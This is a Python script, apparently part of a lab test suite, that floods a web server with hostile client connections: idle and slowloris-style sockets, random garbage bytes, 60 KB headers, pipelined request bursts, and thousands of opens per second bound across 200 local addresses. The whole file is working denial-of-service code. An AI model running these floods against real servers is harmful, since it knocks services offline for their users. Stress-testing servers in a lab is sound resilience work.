# SPDX-License-Identifier: Apache-2.0
"""Hostile HTTP clients, run in the lab's client: opens connections from many addresses as fast as they are closed.

    web_flood.py TARGET PORT KIND COUNT SECONDS     kind: idle, slow, garbage, huge, pipeline, flood_one
Prints one JSON object at the end: how many connections were opened, and at most open at one time.
"""
import json
import random
import resource
import selectors
import socket
import sys
import time

OPENS_PER_SECOND = 3000
HUGE = b"GET /var/modules/echo/ready.txt HTTP/1.1\r\n" + b"X-Long: " + b"y" * 60_000
PIPELINE = b"GET /var/modules/echo/ready.txt HTTP/1.1\r\n\r\n" * 200
GARBAGE = [bytes(random.Random(seed).randrange(256) for _ in range(400)) for seed in range(50)]


class Flood:
    def __init__(self, target, port, kind, count):
        self.target, self.port, self.kind, self.count = target, port, kind, count
        self.live, self.opened, self.most = {}, 0, 0
        self.selector = selectors.DefaultSelector()

    def open(self):
        one = socket.socket()
        one.setblocking(False)
        host = 1 if self.kind == "flood_one" else 1 + self.opened % 200
        one.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
        one.bind((f"10.42.100.{host}", 0))
        one.connect_ex((self.target, self.port))
        wanted = selectors.EVENT_READ if self.kind in ("idle", "flood_one") else selectors.EVENT_WRITE
        self.selector.register(one, wanted)
        self.live[one.fileno()] = one
        self.opened += 1
        self.most = max(self.most, len(self.live))

    def close(self, one):
        self.selector.unregister(one)
        del self.live[one.fileno()]
        one.close()

    def attack(self, one):
        text = {"slow": b"G", "garbage": random.choice(GARBAGE), "huge": HUGE, "pipeline": PIPELINE}[self.kind]
        one.send(text)
        if self.kind in ("garbage", "huge"):
            self.selector.modify(one, selectors.EVENT_READ)
        elif self.kind == "pipeline":
            one.recv(1 << 16)

    def step(self):
        for key, events in self.selector.select(0.01)[:500]:
            try:
                if events & selectors.EVENT_WRITE and (self.kind != "slow" or random.random() < 0.01):
                    self.attack(key.fileobj)
                if events & selectors.EVENT_READ and not key.fileobj.recv(1 << 16):
                    self.close(key.fileobj)
            except BlockingIOError:
                pass
            except OSError:
                self.close(key.fileobj)

    def run(self, seconds):
        begin = time.monotonic()
        while (now := time.monotonic() - begin) < seconds:
            while len(self.live) < self.count and self.opened < now * OPENS_PER_SECOND:
                self.open()
            self.step()
        print(json.dumps({"opened": self.opened, "most": self.most}))


if __name__ == "__main__":
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    Flood(sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])).run(float(sys.argv[5]))
